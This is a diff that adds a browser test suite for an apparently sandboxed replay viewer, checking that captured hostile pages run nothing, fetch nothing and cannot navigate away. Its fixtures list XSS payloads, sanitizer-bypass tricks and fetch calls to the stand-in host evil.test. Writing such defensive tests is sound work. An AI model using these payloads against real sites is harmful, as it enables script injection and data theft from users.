@@ -1,0 +1,129 @@
+"""A hostile capture stays inert in the frame: nothing runs, nothing is asked for, nothing leads away."""
+
+import pytest
+
+from tests.ui.conftest import Viewer
+
+pytestmark = pytest.mark.browser
+
+OUT = "http://evil.test"
+STEAL = f"top.stolen=1;fetch(&#39;{OUT}/run&#39;)".replace("&#39;", '"')
+
+HOSTILE = {
+    "script": f"<script>{STEAL}</script>",
+    "script with address": f"<script src='{OUT}/a.js'></script>",
+    "svg script": f"<svg><script href='{OUT}/a.js'>{STEAL}</script></svg>",
+    "script by qualified name": f"<#x:http%3A%2F%2Fwww.w3.org%2F1999%2Fxhtml:a:script>{STEAL}"
+    "</#x:http%3A%2F%2Fwww.w3.org%2F1999%2Fxhtml:a:script>",
+    "handler": f"<img src='data:x' onerror='{STEAL}'>",
+    "handler in capitals": f"<body ONLOAD='{STEAL}'></body>",
+    "svg handler": f"<svg onload='{STEAL}'><animate onbegin='{STEAL}' dur='1s'></animate></svg>",
+    "meta refresh": f"<meta http-equiv='refresh' content='0;url={OUT}/refresh'>",
+    "policy by meta": "<meta http-equiv='Content-Security-Policy' content='img-src *'>",
+    "base": f"<base href='{OUT}/'><a href='x'>a</a>",
+    "link": f"<link rel='stylesheet' href='{OUT}/a.css'><link rel='icon' href='{OUT}/i.png'>",
+    "link ahead": f"<link rel='preconnect' href='{OUT}'><link rel='prefetch' href='{OUT}/p'>"
+    f"<link rel='modulepreload' href='{OUT}/m.js'>",
+    "iframe": f"<iframe src='{OUT}/frame'></iframe><iframe src='javascript:{STEAL}'></iframe>",
+    "iframe srcdoc": f"<iframe srcdoc='&lt;script>{STEAL}&lt;/script>'></iframe>",
+    "frameset": f"<frameset><frame src='{OUT}/frame'></frameset>",
+    "plug-ins": f"<object data='{OUT}/o'></object><embed src='{OUT}/e'><applet code='{OUT}/p'></applet>",
+    "images": f"<img src='{OUT}/i.png'><img srcset='{OUT}/s.png 1x'><input type='image' src='{OUT}/n.png'>"
+    f"<picture><source srcset='{OUT}/p.png'><img></picture><svg><image href='{OUT}/v.png'></image></svg>",
+    "media": f"<video src='{OUT}/v' poster='{OUT}/p.png' autoplay></video><audio src='{OUT}/a' autoplay></audio>"
+    f"<video><source src='{OUT}/s'><track src='{OUT}/t' default></video>",
+    "styles": f"<style>@import '{OUT}/i.css'; @font-face {{ font-family: f; src: url({OUT}/f) }}"
+    f" * {{ font-family: f; background: url({OUT}/b.png); cursor: url({OUT}/c), auto }}</style>"
+    f"<p style='background: url({OUT}/inline.png)'>text</p>",
+    "svg from outside": f"<svg><use href='{OUT}/u.svg#a'></use><filter><feImage href='{OUT}/f.png'></feImage></filter></svg>",
+    "manifest": f"<link rel='manifest' href='{OUT}/m.json'>",
+}
+
+
+NESTED = {
+    "script": f"<script>{STEAL}</script>",
+    "handler": f"<img src='data:x' onerror='{STEAL}'>",
+    "meta refresh": f"<meta http-equiv='refresh' content='0;url={OUT}/refresh'>",
+    "style that ends itself": f"<style>&lt;/style>&lt;meta http-equiv=refresh content=0;url={OUT}/refresh></style>",
+    "style where it is no style": f"<svg><#h:style>&lt;img src={OUT}/i.png onerror={STEAL.replace(' ', '')}>"
+    f"&lt;meta http-equiv=refresh content=0;url={OUT}/r></#h:style></svg>",
+    "raw text": f"<xmp>&lt;/xmp>&lt;meta http-equiv=refresh content=0;url={OUT}/r></xmp>"
+    f"<noembed>&lt;/noembed>&lt;img src={OUT}/i.png></noembed>",
+    "deeper": f"<iframe src='{OUT}/f'><#document><html><script>{STEAL}</script></html></#document></iframe>",
+}
+
+
+def _show(viewer: Viewer, body: str) -> None:
+    html = f"<!DOCTYPE html><html><head></head><body>{body}<p id='last'>last</p></body></html>"
+    # The count is what the frame itself finds: these captures are about something else.
+    refused = viewer.load(html, 0)
+    count = int(refused["message"].split(" ")[0])
+    assert viewer.load(html, count) == {"did": "loaded", "w": 800, "h": 600}
+    viewer.frame.wait_for_selector("#last")
+    # Whatever would be fetched or run is under way by the time two frames have been painted.
+    viewer.frame.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
+
+
+def _assert_inert(viewer: Viewer) -> None:
+    assert viewer.asked == []
+    assert viewer.page.evaluate("window.stolen") is None
+    assert viewer.frame.url.endswith("/ui/frame.html")
+    assert viewer.frame.query_selector("script, base, link, [http-equiv], [onerror], [onload]") is None
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_nothing_runs_and_nothing_is_asked_for(name: str, viewer: Viewer) -> None:
+    _show(viewer, HOSTILE[name])
+    _assert_inert(viewer)
+
+
+@pytest.mark.parametrize("name", NESTED)
+def test_nothing_does_in_a_captured_frame_either(name: str, viewer: Viewer) -> None:
+    _show(viewer, f"<iframe><#document><html>{NESTED[name]}<i id='inner'></i></html></#document></iframe>")
+    viewer.page.wait_for_function("frames[0].length === 1")
+    inner = viewer.frame.child_frames[0]
+    inner.wait_for_selector("#inner", state="attached")
+    _assert_inert(viewer)
+    assert inner.url == "about:srcdoc"
+    assert inner.query_selector("script, [http-equiv], [onerror]") is None
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f"<a id='way' href='{OUT}/a' ping='{OUT}/ping'>go</a>",
+        f"<a id='way' href='{OUT}/a' target='_top'>go</a>",
+        f"<a id='way' href='{OUT}/a' target='_blank'>go</a>",
+        f"<form action='{OUT}/form'><button id='way'>go</button></form>",
+        f"<form><button id='way' formaction='{OUT}/form'>go</button></form>",
+        f"<svg width='9' height='9'><a href='{OUT}/svg'><rect id='way' width='9' height='9'></rect></a></svg>",
+    ],
+)
+def test_no_click_leads_away(body: str, viewer: Viewer) -> None:
+    _show(viewer, body)
+    viewer.frame.click("#way", force=True)
+    viewer.frame.evaluate("document.querySelector('#way').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")
+    viewer.frame.evaluate("new Promise(done => setTimeout(done))")
+    _assert_inert(viewer)
+    assert len(viewer.page.context.pages) == 1
+
+
+def test_names_in_a_form_do_not_stand_in_for_what_the_frame_calls(viewer: Viewer) -> None:
+    names = ["insertBefore", "removeChild", "parentNode", "setAttributeNS", "firstChild", "namespaceURI"]
+    fields = "".join(f"<input name='{name}'>" for name in names)
+    images = "".join(f"<img name='{name}'>" for name in ("createElementNS", "documentElement", "open"))
+    _show(viewer, f"<form id='form'>{fields}</form>{images}")
+    form = 5  # doctype, html, head, body, form
+    count = form + len(names) + 3 + 2
+    viewer.apply(count, i=[form, 0, "<b>in</b>"], a=[form, "class", "changed"], r=[form + 1])
+    viewer.frame.wait_for_selector("form.changed > b")
+    assert viewer.frame.locator("form > input").count() == len(names) - 1
+
+
+def test_only_the_player_is_obeyed(viewer: Viewer) -> None:
+    _show(viewer, "<p>as it was</p>")
+    before = viewer.frame.content()
+    record = {"k": "snapshot", "n": 1, "url": "", "title": "", "w": 1, "h": 1, "html": "<p></p>", "c": 1}
+    viewer.frame.evaluate("record => window.postMessage({do: 'load', record}, '*')", record)
+    viewer.frame.evaluate("new Promise(done => setTimeout(done))")
+    assert viewer.frame.content() == before
